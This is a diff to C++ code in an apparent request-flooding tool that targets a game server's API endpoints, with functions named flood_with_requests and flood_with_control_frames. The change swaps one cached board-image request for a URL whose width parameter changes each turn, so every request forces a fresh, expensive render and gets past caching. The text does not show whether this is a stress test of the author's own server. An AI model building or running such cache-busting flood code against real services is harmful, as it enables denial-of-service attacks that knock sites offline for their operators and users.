@@ -96,18 +96,19 @@ awaitable<void> flood_with_control_frames(Attack& attack, std::size_t number) {
 
 // Makes the most expensive requests, one after another on keep-alive connections.
 awaitable<void> flood_with_requests(Attack& attack, std::size_t number) {
-  const std::array<std::string, 9> dear{fmt::format("/api/v1/games/{}", attack.game),
-                                        fmt::format("/api/v1/games/{}/record?format=kif", attack.game),
-                                        fmt::format("/api/v1/games/{}/record?format=json", attack.game),
-                                        fmt::format("/api/v1/games/{}/preview.png?ply={}", attack.game, number),
-                                        fmt::format("/api/v1/games/{}/board.png?ply={}", attack.game, number + 1),
-                                        fmt::format("/api/v1/games/{}/board.svg", attack.game),
-                                        "/api/v1/seeks",
-                                        fmt::format("/game/{}", attack.game),
-                                        "/api/v1/games/live"};
+  std::array<std::string, 9> dear{fmt::format("/api/v1/games/{}", attack.game),
+                                  fmt::format("/api/v1/games/{}/record?format=kif", attack.game),
+                                  fmt::format("/api/v1/games/{}/record?format=json", attack.game),
+                                  fmt::format("/api/v1/games/{}/preview.png?ply={}", attack.game, number),
+                                  {},  // a picture that nobody has requested before
+                                  fmt::format("/api/v1/games/{}/board.svg", attack.game),
+                                  "/api/v1/seeks",
+                                  fmt::format("/game/{}", attack.game),
+                                  "/api/v1/games/live"};
   auto stranger = co_await Stranger::come(attack, number);
   if (!stranger) co_return;
   for (std::size_t turn = number; !attack.is_over(); ++turn) {
+    dear[4] = fmt::format("/api/v1/games/{}/board.png?ply={}&width={}", attack.game, number, 100 + turn % 1'501);
     const std::string asked = request("GET", dear[turn % dear.size()], {}, "Accept-Encoding: gzip\r\n");
     if (!co_await stranger->send(asked)) co_return;
     if (!co_await stranger->answer()) co_return;
